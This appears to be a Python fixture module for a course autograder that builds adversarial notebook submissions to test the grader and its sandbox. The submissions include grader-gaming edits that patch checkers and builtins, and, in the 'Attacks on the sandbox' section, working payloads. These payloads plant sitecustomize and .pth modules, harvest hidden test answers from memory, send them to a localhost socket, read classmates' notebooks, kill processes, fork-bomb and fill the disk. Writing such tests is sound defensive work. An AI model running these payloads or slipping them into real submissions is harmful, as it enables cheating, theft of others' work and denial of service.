"""Adversarial submissions for the grader, generated from the solutions notebook of chapter 01.

Each fixture is a small edit of ``solutions/01_gradient_descent.ipynb`` (so the fixtures stay in
sync with the notebook) plus the scores the grader must give, question by question. The questions
and their points are read from that notebook (``QUESTIONS``, ``FULL``, ``MAX_SCORE``), so a chapter
that gains an exercise does not silence these tests.

``FIXTURES`` maps a name to ``(build, expected)`` where ``build(solution_nb) -> bytes`` returns the
file content and ``expected`` maps question → ``(score, feedback substring or "")``.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from pathlib import Path

from course_lib.grading.grader import load_assignment

ROOT = Path(__file__).resolve().parents[2]
SOLUTION = ROOT / "solutions" / "01_gradient_descent.ipynb"
_ASSIGNMENT = load_assignment("01_gradient_descent", SOLUTION.parent)
QUESTIONS = tuple(q.grade_id for q in _ASSIGNMENT.questions)
FULL = {q.grade_id: (float(q.points), "correct") for q in _ASSIGNMENT.questions}
MAX_SCORE = _ASSIGNMENT.max_score

WRONG_SGD = "def sgd_step(p, g, lr):\n    return p + lr * g\n"


def load_solution() -> dict:
    return json.loads(SOLUTION.read_text(encoding="utf-8"))


def _src(cell: dict) -> str:
    s = cell["source"]
    return "".join(s) if isinstance(s, list) else s


def _code(src: str) -> dict:
    return {
        "cell_type": "code",
        "metadata": {},
        "source": src,
        "outputs": [],
        "execution_count": None,
    }


def _find(nb: dict, needle: str) -> int:
    for i, cell in enumerate(nb["cells"]):
        if cell["cell_type"] == "code" and needle in _src(cell):
            return i
    raise KeyError(needle)


def _set(nb: dict, needle: str, src: str) -> dict:
    nb["cells"][_find(nb, needle)]["source"] = src
    return nb


def _insert_after_setup(nb: dict, src: str) -> dict:
    nb["cells"].insert(_find(nb, "device = setup(") + 1, _code(src))
    return nb


def _dump(nb: dict) -> bytes:
    return json.dumps(nb, indent=1).encode()


def edit(fn: Callable[[dict], dict]) -> Callable[[dict], bytes]:
    return lambda nb: _dump(fn(copy.deepcopy(nb)))


def _strip_metadata(nb: dict) -> dict:
    nb["metadata"] = {}
    for cell in nb["cells"]:
        cell["metadata"] = {}
        cell.pop("id", None)
        if cell["cell_type"] == "code":
            cell["outputs"] = []
    return nb


def _change_points(nb: dict) -> dict:
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader")
        if meta and meta.get("grade"):
            meta["points"] = 100
    return nb


def _delete_test_cells(nb: dict) -> dict:
    nb["cells"] = [c for c in nb["cells"] if "from course_lib.checks import" not in _src(c)]
    return nb


def _move_sgd_to_end(nb: dict) -> dict:
    cell = nb["cells"].pop(_find(nb, "def sgd_step("))
    nb["cells"].append(cell)
    return nb


def _duplicate_wrong_first(nb: dict) -> dict:
    nb["cells"].insert(_find(nb, "def sgd_step("), _code(WRONG_SGD))
    return nb


def _wrong(nb: dict) -> dict:
    return _set(nb, "def sgd_step(", WRONG_SGD)


def _prefix(needle: str, code: str) -> Callable[[dict], dict]:
    def fn(nb: dict) -> dict:
        i = _find(nb, needle)
        nb["cells"][i]["source"] = code + _src(nb["cells"][i])
        return nb

    return fn


def _both(*fns: Callable[[dict], dict]) -> Callable[[dict], dict]:
    def fn(nb: dict) -> dict:
        for f in fns:
            nb = f(nb)
        return nb

    return fn


WRONG = {**FULL, "sgd_step": (0.0, "wrong sign")}

# name -> (build, expected, slow): "slow" fixtures hit a timeout on purpose
FIXTURES: dict[str, tuple[Callable[[dict], bytes], dict, bool]] = {
    "correct": (edit(lambda nb: nb), FULL, False),
    "wrong": (edit(_wrong), WRONG, False),
    "import_error": (
        edit(_prefix("def sgd_step(", "import a_module_that_does_not_exist\n")),
        {**FULL, "sgd_step": (0.0, "not found")},
        False,
    ),
    "syntax_error": (
        edit(_prefix("def divergence_threshold(", "this is not python (\n")),
        {**FULL, "divergence_threshold": (0.0, "not found")},
        False,
    ),
    "edited_test_cell": (
        edit(_both(_wrong, lambda nb: _set(nb, "check_sgd_step(", 'print("all tests pass")'))),
        WRONG,
        False,
    ),
    "deleted_test_cells": (edit(_delete_test_cells), FULL, False),
    "stripped_metadata": (edit(_strip_metadata), FULL, False),
    "changed_points": (edit(_change_points), FULL, False),
    "moved_cell": (edit(_move_sgd_to_end), FULL, False),
    "duplicated_cell": (edit(_duplicate_wrong_first), FULL, False),
    "missing_function": (
        edit(lambda nb: _set(nb, "class FixedSGD(", "pass")),
        {**FULL, "fixed_sgd": (0.0, "not found")},
        False,
    ),
    "overridden_checker": (
        edit(
            _both(
                _wrong,
                lambda nb: _insert_after_setup(
                    nb,
                    "import course_lib.checks as C\n"
                    "C.check_sgd_step = lambda *a, **k: True\n"
                    "C._check_rule = lambda *a, **k: True\n"
                    "torch.allclose = lambda *a, **k: True\n"
                    "torch.isclose = lambda a, b, **k: torch.ones_like(a, dtype=torch.bool)\n",
                ),
            )
        ),
        WRONG,
        False,
    ),
    "always_equal_object": (
        edit(
            lambda nb: _set(
                nb,
                "def sgd_step(",
                "class Anything:\n"
                "    def __eq__(self, other):\n        return True\n"
                "    def __sub__(self, other):\n        return self\n"
                "    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __sub__\n"
                "    def tolist(self):\n        return [0.0]\n"
                "def sgd_step(p, g, lr):\n    return Anything()\n",
            )
        ),
        {**FULL, "sgd_step": (0.0, "not a tensor")},
        False,
    ),
    "tensor_subclass": (
        edit(
            lambda nb: _set(
                nb,
                "def sgd_step(",
                "class Forged(torch.Tensor):\n"
                "    def tolist(self):\n        return [0.0]\n"
                "def sgd_step(p, g, lr):\n    return (p + lr * g).as_subclass(Forged)\n",
            )
        ),
        {**FULL, "sgd_step": (0.0, "not a tensor")},
        False,
    ),
    "custom_exception_handler": (
        edit(
            _both(
                _wrong,
                lambda nb: _insert_after_setup(
                    nb,
                    "import sys\n"
                    "sys.excepthook = lambda *a: None\n"
                    "try:\n"
                    "    get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)\n"
                    "except Exception:\n"
                    "    pass\n",
                ),
            )
        ),
        WRONG,
        False,
    ),
    "patched_assertion_error": (
        edit(
            _both(
                _wrong,
                lambda nb: _insert_after_setup(
                    nb,
                    "import builtins\n"
                    "class Harmless(Exception):\n    pass\n"
                    "builtins.AssertionError = Harmless\n",
                ),
            )
        ),
        WRONG,
        False,
    ),
    "patched_builtins_abs": (
        edit(
            _both(
                _wrong,
                lambda nb: _insert_after_setup(
                    nb,
                    "import builtins, math, json\n"
                    "builtins.abs = lambda x: 0\n"
                    "builtins.isinstance = lambda *a: True\n"
                    "builtins.type = lambda *a: torch.Tensor\n"
                    "math.isclose = lambda *a, **k: True\n"
                    "json.dumps = lambda *a, **k: '{}'\n"
                    "torch.Tensor.tolist = lambda self: [0.0]\n",
                ),
            )
        ),
        WRONG,
        False,
    ),
    "os_exit_toplevel": (
        edit(lambda nb: _insert_after_setup(nb, "import os\nos._exit(0)\n")),
        FULL,
        False,
    ),
    "os_exit_in_function": (
        edit(
            lambda nb: _set(
                nb,
                "def divergence_threshold(",
                "def divergence_threshold(A):\n    import os\n    os._exit(3)\n",
            )
        ),
        {**FULL, "divergence_threshold": (0.0, "process")},
        False,
    ),
    "huge_allocation": (
        edit(
            _both(
                lambda nb: _insert_after_setup(nb, "big = bytearray(10**13)\n"),
                lambda nb: _set(
                    nb,
                    "def sgd_step(",
                    "def sgd_step(p, g, lr):\n    return torch.empty(10**12) * 0 + p - lr * g\n",
                ),
            )
        ),
        {**FULL, "sgd_step": (0.0, "")},
        False,
    ),
    "sys_exit_toplevel": (
        edit(lambda nb: _insert_after_setup(nb, "raise SystemExit(1)\n")),
        FULL,
        False,
    ),
    "infinite_loop_toplevel": (
        edit(lambda nb: _insert_after_setup(nb, "while True:\n    pass\n")),
        FULL,
        True,
    ),
    "infinite_loop_in_function": (
        edit(
            lambda nb: _set(
                nb,
                "def divergence_threshold(",
                "def divergence_threshold(A):\n"
                "    while True:\n"
                "        try:\n"
                "            pass\n"
                "        except BaseException:\n"
                "            pass\n",
            )
        ),
        {**FULL, "divergence_threshold": (0.0, "timed out")},
        True,
    ),
}

NOT_NOTEBOOKS = {
    "not_a_notebook": (b"\x89PNG\r\n\x1a\n\x00\x00binary", "not a text file"),
    "corrupt_json": (
        b'{"cells": [{"cell_type": "code", "source": "x = ',
        "not valid notebook JSON",
    ),
    "json_but_not_notebook": (b'{"hello": "world"}', "not a Jupyter notebook"),
}


def write_fixtures(dest: Path, slow: bool = True) -> dict[str, dict]:
    """Write every fixture as ``dest/<name>.ipynb``; return name → expected scores."""
    dest.mkdir(parents=True, exist_ok=True)
    nb = load_solution()
    expected = {}
    for name, (build, exp, is_slow) in FIXTURES.items():
        if is_slow and not slow:
            continue
        (dest / f"{name}.ipynb").write_bytes(build(nb))
        expected[name] = exp
    for name, (content, why) in NOT_NOTEBOOKS.items():
        (dest / f"{name}.ipynb").write_bytes(content)
        expected[name] = {q: (0.0, why) for q in QUESTIONS}
    return expected


# ---------------------------------------------------------------------------------------------
# Attacks on the sandbox (issue #11): one per finding, each as a hostile student would write it
# ---------------------------------------------------------------------------------------------
#
# Every attack is a notebook built from the solutions (a correct answer plus the attack: it must
# keep its points and gain none) or from the exercise (an empty answer plus the attack: full marks
# would mean the attack worked). ``ctx`` carries what the attacker is assumed to know or guess:
# a run token for marker names, the solutions folder, the inbox, a localhost port to leak to.

EXERCISE = ROOT / "exercises" / "01_gradient_descent.ipynb"
ZERO = {q: (0.0, "") for q in QUESTIONS}


def load_exercise() -> dict:
    return json.loads(EXERCISE.read_text(encoding="utf-8"))


def _attack_after_setup(base: str, src: str, at_end: str = "") -> Callable[[dict], bytes]:
    def build(ctx: dict) -> bytes:
        nb = load_solution() if base == "solution" else load_exercise()
        nb = _insert_after_setup(nb, src.format(**ctx))
        if at_end:
            nb["cells"].append(_code(at_end.format(**ctx)))
        return _dump(nb)

    return build


# Finding 1: plant modules where a later grader process might import them (as root). The payload
# copies the solutions over the attacker's own submission (0 now, full marks on the re-grade) and
# leaves a marker on the host.
PLANT = r'''
import os, sys, site, tempfile
PAYLOAD = """
import os, shutil
try:
    open("/var/tmp/pwned-{token}", "w").write("imported by pid %d uid %d" % (os.getpid(), os.getuid()))
    shutil.copy("{solutions}/01_gradient_descent.ipynb", "{inbox}/plant_modules.ipynb")
except OSError:
    pass
"""
places = {{os.getcwd(), os.path.dirname(os.getcwd()), os.path.expanduser("~"), tempfile.gettempdir(),
          {shared_dirs} *[p or os.getcwd() for p in sys.path]}}
for getter in ("getsitepackages", "getusersitepackages"):
    try:
        found = getattr(site, getter)()
        places.update([found] if isinstance(found, str) else found)
    except Exception:
        pass
for d in places:
    for name in ("monkeytype.py", "sitecustomize.py", "usercustomize.py", "tqdm.py", "_pwn.py"):
        try:
            with open(os.path.join(d, name), "w") as f:
                f.write(PAYLOAD)
        except OSError:
            pass
    try:
        with open(os.path.join(d, "zz_pwn.pth"), "w") as f:
            f.write("import _pwn\n")
    except OSError:
        pass
os.kill(os.getppid(), 9)  # take the box process down: the old grader restarted into the plant
'''

# Finding 2: every cell floods every descriptor it has with 10 MB and dies.
FLOOD = r"""
import os
for fd in range(3, 256):
    try:
        os.write(fd, b'{{"begin": 0}}' + b"x" * (10 * 2**20))
    except OSError:
        pass
os._exit(0)
"""

# Finding 3: walk the garbage collector and every stack frame for a reply with expected outputs,
# then answer every hidden case by replaying them in call order.
STEAL = r"""
import gc, sys, torch
stolen = {{}}

def _harvest(obj):
    if isinstance(obj, dict):
        probes = obj.get("probes")
        if isinstance(probes, dict):
            for name, res in probes.items():
                cases = res.get("cases") if isinstance(res, dict) else None
                if cases and all(isinstance(c, dict) and "out" in c for c in cases):
                    stolen.setdefault(name, cases)
        for value in list(obj.values()):
            if isinstance(value, dict) and "cases" in value and "out" in str(value)[:2000]:
                cases = value["cases"]
                if isinstance(cases, list) and cases and isinstance(cases[0], dict) and "out" in cases[0]:
                    stolen.setdefault("?", cases)

for obj in gc.get_objects():
    try:
        _harvest(obj)
    except Exception:
        pass
for frame in sys._current_frames().values():
    while frame is not None:
        for value in list(frame.f_locals.values()):
            try:
                _harvest(value)
            except Exception:
                pass
        frame = frame.f_back
_calls = {{}}

def _replay(name):
    i = _calls.get(name, 0)
    _calls[name] = i + 1
    return [torch.tensor(o["data"], dtype=torch.float64) for o in stolen[name][i]["out"]]
"""
STEAL_DEFS = r"""
if "sgd_step" in stolen:
    def sgd_step(p, g, lr):
        return _replay("sgd_step")[0]
if "divergence_threshold" in stolen:
    def divergence_threshold(A):
        return _replay("divergence_threshold")[0].item()
"""

# Findings 4 and 9: a correct student stashes its code in every shared place it can write; an
# accomplice with an empty notebook looks for it (in the same run and in a later one).
STASH = r"""
import glob, inspect, os, tempfile
code = "\n".join(inspect.getsource(f) for f in (sgd_step, divergence_threshold))
for d in {{"/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.path.expanduser("~"),
          os.getcwd(), os.path.dirname(os.getcwd()), "/"}}:
    try:
        with open(os.path.join(d, "stash-{token}.py"), "w") as f:
            f.write(code)
    except OSError:
        pass
"""
ACCOMPLICE = r"""
import glob, os, tempfile
for d in {{"/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.path.expanduser("~"),
          os.getcwd(), os.path.dirname(os.getcwd()), "/"}}:
    for path in glob.glob(os.path.join(d, "stash-{token}.py")):
        try:
            exec(open(path).read())
        except Exception:
            pass
"""

# Finding 5: a daemon that SIGKILLs every process it can see, for as long as the box lives.
KILLER = r"""
import os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        end = time.time() + 8
        while time.time() < end:
            for pid in os.listdir("/proc"):
                if pid.isdigit() and int(pid) != os.getpid():
                    try:
                        os.kill(int(pid), signal.SIGKILL)
                    except OSError:
                        pass
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
            time.sleep(0.05)
        os._exit(0)
    os._exit(0)
time.sleep(8)
"""

# Finding 6: a chain of 40 processes, each its own session, that outlive the submission and then
# kill whatever they can (the boxes of later submissions).
CHAIN = r"""
import ctypes, os, signal, time
def _chain(depth):
    if os.fork():
        return
    os.setsid()
    ctypes.CDLL(None).prctl(15, b"{chain}", 0, 0, 0)
    if depth:
        _chain(depth - 1)
    time.sleep(8)  # the box is long finished by then: only a survivor would go on
    while True:
        time.sleep(0.3)
        if {kill_all}:
            try:
                os.kill(-1, signal.SIGKILL)
            except OSError:
                pass
_chain(40)
time.sleep(1)
"""

# Findings 10 and 14: read the solutions and classmates' notebooks (paths from the grader's
# command line in /proc, from course_lib's location, from a walk of the file system) and run
# their code; then try to kill the grader.
READ_OTHERS = r"""
import glob, json, os, signal
_paths = set(glob.glob("{solutions}/*.ipynb")) | set(glob.glob("{inbox}/*.ipynb"))
for pid in os.listdir("/proc"):
    try:
        args = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\0")
    except OSError:
        continue
    for a in args:
        a = a.decode(errors="replace")
        if os.path.isdir(a):
            _paths.update(glob.glob(os.path.join(a, "*.ipynb")))
        elif a.endswith(".ipynb"):
            _paths.add(a)
import course_lib
_repo = os.path.dirname(os.path.dirname(course_lib.__file__))
_paths.update(glob.glob(os.path.join(_repo, "solutions", "*.ipynb")))
for _p in sorted(_paths):
    try:
        _nb = json.load(open(_p))
    except Exception:
        continue
    for _c in _nb.get("cells", []):
        _src = "".join(_c["source"]) if isinstance(_c["source"], list) else _c["source"]
        if _c.get("cell_type") == "code" and _src.lstrip().startswith(("def sgd_step", "def divergence_threshold")):
            try:
                exec(_src)
            except Exception:
                pass
"""
KILL_GRADER = r"""
import os, signal
for pid in [os.getppid(), *[int(p) for p in os.listdir("/proc") if p.isdigit()]]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
"""

# Finding 11: send the hidden test inputs (found in memory) to a listener on localhost.
EXFILTRATE = r"""
import gc, json, socket
try:
    _inputs = json.dumps(
        [o["cases"] for o in gc.get_objects()
         if isinstance(o, dict) and isinstance(o.get("cases"), list) and isinstance(o.get("runner"), str)]
    ).encode()
except Exception as _exc:
    _inputs = repr(_exc).encode()
for _host in (b"127.0.0.1", "127.0.0.1", "localhost"):  # bytes: no codec import needed
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as _s:
            _s.settimeout(2)
            _s.connect((_host, {port}))
            _s.sendall(b"hidden inputs: " + _inputs[:100000])
    except (OSError, LookupError):
        pass
"""

# Finding 12: each call of a graded function forks 6 children that hold 200 MB each.
FORK_MEMORY = r"""
def divergence_threshold(A):
    import os, time
    for _ in range(6):
        if os.fork() == 0:
            block = b"x" * (200 * 2**20)
            time.sleep(30)
            os._exit(0)
    time.sleep(20)
    return 2.0 / torch.linalg.eigvalsh(A).max().item()
"""

# Finding 13: fill every writable place with 64 MB files until the disk is full.
FILL_DISK = r"""
import os, tempfile
for d in {{"/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~"), tempfile.gettempdir()}}:
    for i in range(40):
        try:
            with open(os.path.join(d, f"fill-{token}-{{i}}"), "wb") as f:
                f.write(b"x" * (64 * 2**20))
        except OSError:
            break
"""

# Finding 16: an error message that contains a set of strings (its order depends on the hash seed).
SET_ERROR = r"""
raise ValueError(f"unexpected keys {{set(['alpha', 'beta', 'gamma', 'delta', 'epsilon', 'zeta'])}}")
"""

WRITE_EVERYWHERE = r"""
import os
for d in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), os.path.dirname(os.getcwd()), "/"):
    try:
        with open(os.path.join(d, "written-{token}"), "w") as f:
            f.write("I was here")
    except OSError:
        pass
"""

# name -> (build(ctx) -> bytes, expected scores, modes it runs in, finding)
BOTH, ISOLATED = ("bwrap", "process"), ("bwrap",)
ATTACKS: dict[str, tuple[Callable[[dict], bytes], dict, tuple[str, ...], int]] = {
    "plant_modules": (_attack_after_setup("exercise", PLANT), ZERO, BOTH, 1),
    "flood_protocol": (
        lambda ctx: _dump(
            _both(*[lambda nb, i=i: _insert_after_setup(nb, FLOOD.format()) for i in range(16)])(
                load_solution()
            )
        ),
        {q: (0.0, "MB of output") for q in QUESTIONS},
        BOTH,
        2,
    ),
    "steal_from_memory": (_attack_after_setup("exercise", STEAL, STEAL_DEFS), ZERO, BOTH, 3),
    # process mode shares /tmp & co. with the host, the file system and the network (documented)
    "stash_answers": (_attack_after_setup("solution", "", STASH), FULL, ISOLATED, 4),
    "accomplice": (_attack_after_setup("exercise", ACCOMPLICE), ZERO, ISOLATED, 4),
    # the daemon kills its own attempt (same user), never its supervisor: that cell fails, the
    # daemon dies with the attempt, the replay without the cell gets full marks
    "killer_daemon": (_attack_after_setup("solution", KILLER), FULL, ISOLATED, 5),
    "fork_chain": (_attack_after_setup("solution", CHAIN), FULL, BOTH, 6),
    "write_everywhere": (_attack_after_setup("solution", WRITE_EVERYWHERE), FULL, ISOLATED, 9),
    "read_classmates": (_attack_after_setup("exercise", "", READ_OTHERS), ZERO, ISOLATED, 10),
    "kill_the_grader": (
        _attack_after_setup("exercise", READ_OTHERS, KILL_GRADER),
        ZERO,
        ISOLATED,
        14,
    ),
    "exfiltrate": (_attack_after_setup("solution", EXFILTRATE), FULL, ISOLATED, 11),
    "fork_memory": (
        lambda ctx: _dump(_set(load_solution(), "def divergence_threshold(", FORK_MEMORY)),
        {q: (0.0, "memory") for q in QUESTIONS},  # the box is stopped in the visible check
        BOTH,
        12,
    ),
    "fill_disk": (_attack_after_setup("solution", FILL_DISK), FULL, ISOLATED, 13),
    "set_in_error": (_attack_after_setup("solution", SET_ERROR), FULL, BOTH, 16),
}


def write_attacks(dest: Path, ctx: dict, mode: str) -> dict[str, dict]:
    """Write the attacks that run in ``mode`` as ``dest/<name>.ipynb``; return their scores."""
    dest.mkdir(parents=True, exist_ok=True)
    expected = {}
    for name, (build, exp, modes, _) in ATTACKS.items():
        if mode in modes:
            (dest / f"{name}.ipynb").write_bytes(build(ctx))
            expected[name] = exp
    return expected
